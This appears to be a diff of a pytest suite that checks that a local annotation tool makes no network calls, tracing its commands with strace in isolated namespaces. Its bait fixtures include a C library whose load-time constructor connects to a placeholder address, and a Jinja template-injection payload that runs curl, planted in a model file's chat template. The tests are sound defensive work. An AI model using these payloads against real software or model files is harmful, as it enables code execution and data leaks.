@@ -2,18 +2,19 @@
 
 from __future__ import annotations
 
-import os
 import re
-import shutil
 import subprocess
 import sys
 import zipfile
 from pathlib import Path
 
 import pytest
+from tools import tool
+from watching import GLOSSATOR, beyond_unix, watched
+
+from desktop.engine.models.library import ModelFile
 
 ROOT = Path(__file__).parents[2]
-GLOSSATOR = Path(sys.executable).with_name("glossator")
 FAST = ("--form=compact", "--prompt=plain")
 
 pytestmark = [
@@ -21,8 +22,50 @@ pytestmark = [
     pytest.mark.skipif(sys.platform != "linux", reason="strace and namespaces are Linux's"),
 ]
 
-CONNECT = "import socket; socket.create_connection(('192.0.2.1', 80), 1)\n"
+CONNECT = "import _socket; _socket.socket().connect_ex(('192.0.2.1', 80))\n"
 URL = "http://192.0.2.1/bait"
+LIBRARY = """
+#include <arpa/inet.h>
+#include <stdio.h>
+#include <sys/socket.h>
+__attribute__((constructor)) static void reach_out(void) {
+    struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(80)};
+    there.sin_addr.s_addr = inet_addr("192.0.2.1");
+    int out = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+    connect(out, (struct sockaddr *)&there, sizeof there);
+    FILE *note = fopen("loaded", "a");
+    if (note) { fputs(out < 0 ? "refused\\n" : "a socket\\n", note); fclose(note); }
+}
+"""
+TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('curl http://192.0.2.1/') }}{{ messages }}"
+
+WINDOW = """
+import sys
+from desktop.ui.app import App
+from desktop.ui.__main__ import main
+from PySide6.QtCore import QTimer
+
+shown = App.show
+
+def show(app):
+    shown(app)
+    names = iter(app.window.pages)
+    privacy = app.window.pages["privacy"]
+
+    def turn():
+        if name := next(names, ""):
+            app.window.go(name)
+            if name == "privacy":
+                privacy.check.click()
+        elif privacy.check.isEnabled():
+            app.window.close()
+
+    app.turning = QTimer(interval=200, timeout=turn)
+    app.turning.start()
+
+App.show = show
+sys.exit(main())
+"""
 
 
 @pytest.fixture
@@ -67,80 +110,84 @@ def bait(tmp_path: Path) -> Path:
         "desktop",
     ):
         (folder / f"{name}.py").write_text(CONNECT)
-    (folder / "bait.so").write_bytes(b"\x7fELF not a library")
+    library = folder / "bait.c"
+    library.write_text(LIBRARY)
+    compiler = tool("cc")
+    for name in ("bait.so", "libggml-cpu.so", "libllama.so"):
+        subprocess.run([compiler, "-shared", "-fPIC", "-o", folder / name, library], check=True)
     return folder
 
 
-def watched(folder: Path, *commands: tuple[str, ...]) -> list[str]:
-    """The network calls that commands make, in a network namespace without interfaces."""
-    for tool in ("strace", "unshare"):
-        if shutil.which(tool) is None:
-            pytest.skip(f"needs {tool}")
-    lines: list[str] = []
-    for number, command in enumerate(commands):
-        trace = folder / f"trace{number}"
-        done = subprocess.run(
-            ["unshare", "-rn", "strace", "-f", "-qq", "-e", "trace=network", "-o", trace,
-             GLOSSATOR, *command],
-            check=False,
-            capture_output=True,
-            text=True,
-            cwd=folder,
-            env={**os.environ, "GGML_BACKEND_PATH": str(folder / "bait.so"),
-                 "LLAMA_CPP_LIB_PATH": str(folder)},
-            timeout=600,
-        )  # fmt: skip
-        if "unshare:" in done.stderr or "PTRACE" in done.stderr:
-            pytest.skip(f"not allowed here: {done.stderr.strip()[:200]}")
-        assert done.returncode == 0, f"{command}: {done.stdout}{done.stderr}"
-        lines += trace.read_text(errors="replace").splitlines()
-    return lines
-
-
-def beyond_unix(lines: list[str]) -> list[str]:
-    """The calls that are not on UNIX sockets, less the sockets that were refused."""
-    return [
-        line
-        for line in lines
-        if re.search(r"\d+ +(socket|socketpair|connect|bind|listen|send|recv)", line)
-        and "AF_UNIX" not in line
-        and "EAFNOSUPPORT" not in line
-    ]
-
-
 def test_no_command_makes_a_network_call_whatever_the_files_ask_for(bait: Path) -> None:
-    out = bait / "out"
-    project = str(out / "project.glossator")
+    project = bait / "out" / "project.glossator"
+    rubric = bait / "bait.toml"
     lines = watched(
         bait,
-        ("rubric", "check", str(bait / "bait.toml")),
-        ("models", "list"),
-        (
-            "annotate",
-            str(bait / "in"),
-            "--rubric",
-            str(bait / "bait.toml"),
-            "--out",
-            str(out),
-            *FAST,
-        ),
-        ("agree", project),
-        ("export", project, "--format=xlsx"),
-        ("project", "check", project),
-        ("doctor",),
+        (GLOSSATOR, "rubric", "check", rubric),
+        (GLOSSATOR, "models", "list"),
+        (GLOSSATOR, "annotate", bait / "in", "--rubric", rubric, "--out", bait / "out", *FAST),
+        (GLOSSATOR, "agree", project),
+        (GLOSSATOR, "export", project, "--format=xlsx"),
+        (GLOSSATOR, "project", "check", project),
+        (GLOSSATOR, "doctor"),
+        environment={
+            "GGML_BACKEND_PATH": str(bait / "bait.so"),
+            "LLAMA_CPP_LIB_PATH": str(bait),
+            "LD_LIBRARY_PATH": str(bait),
+        },
     )
     assert beyond_unix(lines) == []
     refused = [line for line in lines if "EAFNOSUPPORT" in line]
     assert refused, "the model's process tries to open a socket, to report what stops it"
+    loaded = bait / "loaded"
+    assert not loaded.exists() or "a socket" not in loaded.read_text()
+
+
+def test_a_library_that_does_get_in_gets_no_socket(bait: Path) -> None:
+    """The system's own way to put code into every process: all of them have given up the network
+    by the time a document or a model is looked at, so it is loaded here on purpose and late."""
+    code = (
+        "import ctypes, sys; from desktop.engine.confine import forbid_network;"
+        "forbid_network(); ctypes.CDLL(sys.argv[1])"
+    )
+    lines = watched(bait, (sys.executable, "-P", "-c", code, bait / "bait.so"))
+    assert beyond_unix([line for line in lines if "connect(-1" not in line]) == []
+    assert (bait / "loaded").read_text() == "refused\n"
+
+
+def test_a_model_file_whose_template_wants_out_gets_nowhere(bait: Path, smollm2: ModelFile) -> None:
+    planted = bait / "planted.gguf"
+    subprocess.run(
+        [sys.executable, "-m", "gguf.scripts.gguf_new_metadata", "--chat-template", TEMPLATE,
+         smollm2.path, planted],
+        check=True, capture_output=True,
+    )  # fmt: skip
+    command = (
+        *(GLOSSATOR, "annotate", bait / "in" / "table.csv", "--rubric", bait / "bait.toml"),
+        *("--out", bait / "out", "--model", planted, "--form=compact", "--prompt=chat"),
+    )
+    lines = watched(bait, command, may_fail=True)
+    assert beyond_unix(lines) == []
+    assert not list((bait / "out").glob("*.csv")), "it is refused, not used"
+
+
+def test_the_window_makes_no_network_call(tmp_path: Path) -> None:
+    """The window's own program opens, turns every page, looks over the machine, and closes."""
+    pytest.importorskip("PySide6", reason="needs the window's packages")
+    lines = watched(
+        tmp_path,
+        (sys.executable, "-c", WINDOW),
+        environment={"QT_QPA_PLATFORM": "offscreen", "GLOSSATOR_HOME": str(tmp_path / "home")},
+    )
+    assert beyond_unix(lines) == []
+    assert any("EAFNOSUPPORT" in line for line in lines), "the Privacy page tries to open one"
 
 
 def test_the_watch_sees_a_call_that_is_made(tmp_path: Path) -> None:
     """The test above rests on this: a process without the filter is seen, and fails."""
-    if shutil.which("strace") is None:
-        pytest.skip("needs strace")
     trace = tmp_path / "trace"
     subprocess.run(
-        ["strace", "-f", "-qq", "-e", "trace=network", "-o", trace, sys.executable, "-c",
+        [tool("strace"), "-f", "-qq", "-e", "trace=network", "-o", trace, sys.executable, "-c",
          "import socket; socket.socket().connect_ex(('127.0.0.1', 9))"],
         check=True,
     )  # fmt: skip
